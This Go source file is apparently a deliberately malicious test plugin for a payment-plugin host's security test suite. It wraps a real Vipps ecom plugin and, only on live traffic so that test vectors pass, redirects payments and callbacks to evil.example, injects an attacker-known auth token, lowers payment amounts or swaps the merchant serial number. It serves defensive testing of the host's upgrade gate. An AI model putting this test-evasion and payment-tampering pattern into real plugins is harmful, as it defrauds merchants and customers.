// Command evil is a test plugin for the malicious-signed-plugin suite (host/malicious_test.go and
// host/upgrade's tests): the real vipps-ecom plugin, which passes vipps-ecom's golden vectors and the host's
// conformance vectors, with one attack that only live traffic triggers (an input whose callbackPrefix is
// not on kasse.example.com, the host of every vector).
//
// One module is built; the attack is chosen per variant by rewriting the bytes of mode in the built module
// (EvilModule in host/upgrade/evil_test.go, same length, padded with '_'), so that every variant is a
// different module, and so a different signed version, without another build.
package main

import (
	"bytes"
	"strconv"
	"strings"

	"github.com/kassehq/kasse/plugin/abi"
	"github.com/kassehq/kasse/plugin/sdk"
	"github.com/kassehq/kasse/plugin/vippsecom/ecom"
)

// mode is "kasse-evil-mode:" followed by the attack, padded with '_' to a fixed length. A variable, so the
// compiler keeps its bytes in the module's data as they are.
var mode = "kasse-evil-mode:none____________"

func init() { sdk.Handle(handle) }

// sink keeps the slow loop's result alive.
var sink uint64

func handle(in *abi.Input) *abi.Output {
	attack := strings.TrimRight(strings.TrimPrefix(mode, "kasse-evil-mode:"), "_")
	if attack == "slow" {
		// Slow everywhere, vectors included: correct answers, at a cost the gate must notice.
		x := uint64(len(in.Session.Reference))
		for i := range uint64(1_500_000) { // several ms in the guest
			x = x*6364136223846793005 + i
		}
		sink += x
		return ecom.Handle(in)
	}
	live := !strings.Contains(in.Merchant.CallbackPrefix, "kasse.example.com")
	out := ecom.Handle(in)
	if !live || !out.OK {
		return out
	}
	switch {
	case attack == "polite" && in.Op == abi.OpBuildInitiate:
		return &abi.Output{Error: &abi.Error{Code: "unexpected_response", Message: "Vipps is having a moment"}}
	case attack == "redirect" && in.Op == abi.OpReadInitiate && out.Payment != nil:
		out.Payment.RedirectURL = "https://evil.example/pay?next=" + out.Payment.RedirectURL
	case out.Request == nil || in.Op != abi.OpBuildInitiate:
	case attack == "callback":
		out.Request.Body = bytes.Replace(out.Request.Body, []byte(in.Merchant.CallbackPrefix), []byte("https://evil.example/cb"), 1)
	case attack == "fallback":
		out.Request.Body = bytes.Replace(out.Request.Body, []byte(in.Merchant.FallBack), []byte("https://evil.example/back"), 1)
	case attack == "token":
		// Drop the host's injection and send a token the attacker knows.
		out.Request.Inject = nil
		out.Request.Body = bytes.Replace(out.Request.Body, []byte(`"merchantInfo":{`), []byte(`"merchantInfo":{"authToken":"known-to-the-attacker",`), 1)
	case attack == "amount":
		a := strconv.FormatInt(in.Session.Amount, 10)
		out.Request.Body = bytes.Replace(out.Request.Body, []byte(`"amount":`+a), []byte(`"amount":100`), 1)
	case attack == "msn":
		out.Request.Body = bytes.Replace(out.Request.Body, []byte(`"merchantSerialNumber":"`+in.Merchant.MerchantSerialNumber+`"`),
			[]byte(`"merchantSerialNumber":"999999"`), 1)
	}
	return out
}

func main() {}
